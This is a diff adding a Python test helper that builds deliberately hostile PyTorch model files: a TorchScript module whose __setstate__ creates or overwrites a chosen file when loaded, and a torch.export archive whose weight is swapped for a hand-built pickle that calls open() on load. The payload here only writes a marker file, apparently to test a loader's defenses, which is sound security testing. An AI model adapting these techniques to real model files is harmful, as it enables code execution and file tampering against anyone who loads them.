@@ -1,0 +1,67 @@
+"""Hostile files built in code: each one runs its payload (creates `marker`) if a loader executes it."""
+import io
+import json
+import os
+import pickle
+import pickletools
+import zipfile
+
+import torch
+
+_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C  # first pickle of torch.save's legacy format
+
+
+class WritesOnLoad(torch.nn.Module):
+    """TorchScript whose __setstate__ creates a file of the saver's choosing inside torch.jit.load."""
+
+    def __init__(self, marker: str):
+        super().__init__()
+        self.path = marker
+        self.scale = 2.0
+
+    def forward(self, x):
+        return x * self.scale
+
+    @torch.jit.export
+    def __getstate__(self):
+        return (self.path, self.scale, self.training)
+
+    @torch.jit.export
+    def __setstate__(self, state: tuple[str, float, bool]):
+        self.path = state[0]
+        self.training = state[2]
+        written = torch.from_file(self.path, True, 8)  # creates (or overwrites) any path
+        self.scale = state[1] + 0.0 * float(written.numel())  # used, so the JIT keeps the call
+
+
+def torchscript_writing_on_load(path, marker) -> None:
+    torch.jit.script(WritesOnLoad(str(marker))).save(str(path))
+
+
+def pt2_with_pickled_weight(path, marker) -> None:
+    """A torch.export archive whose weight is flagged `use_pickle` and stored as a pickle calling open(marker)."""
+    torch.manual_seed(0)
+    linear = torch.nn.Linear(4, 2).eval()
+    torch.export.save(torch.export.export(linear, (torch.ones(1, 4),)), str(path))
+    with zipfile.ZipFile(path) as z:
+        entries = [(i.filename, z.read(i)) for i in z.infolist()]
+    prefix = entries[0][0].split("/", 1)[0] + "/"
+    config_name = prefix + "data/weights/model_weights_config.json"
+    config = json.loads(dict(entries)[config_name])
+    config["config"]["weight"]["use_pickle"] = True
+    replaced = {config_name: json.dumps(config).encode(),
+                prefix + "data/weights/" + config["config"]["weight"]["path_name"]:
+                    _pickle_with_payload(linear.weight, marker)}
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
+        for name, data in entries:
+            z.writestr(zipfile.ZipInfo(name), replaced.get(name, data))
+
+
+def _pickle_with_payload(obj, marker) -> bytes:
+    """torch.save's legacy format for `obj`, whose first pickle calls open(marker, 'w') before the magic number."""
+    buf = io.BytesIO()
+    torch.save(obj, buf, _use_new_zipfile_serialization=False, pickle_protocol=2)
+    legacy = buf.getvalue()
+    stop = next(pos for op, _, pos in pickletools.genops(io.BytesIO(legacy)) if op.name == "STOP")
+    args = pickle.dumps((os.fspath(marker), "w"), protocol=2)[2:-1]
+    return b"\x80\x02cbuiltins\nopen\n" + args + b"R0" + pickle.dumps(_LEGACY_MAGIC, protocol=2)[2:] + legacy[stop + 1:]
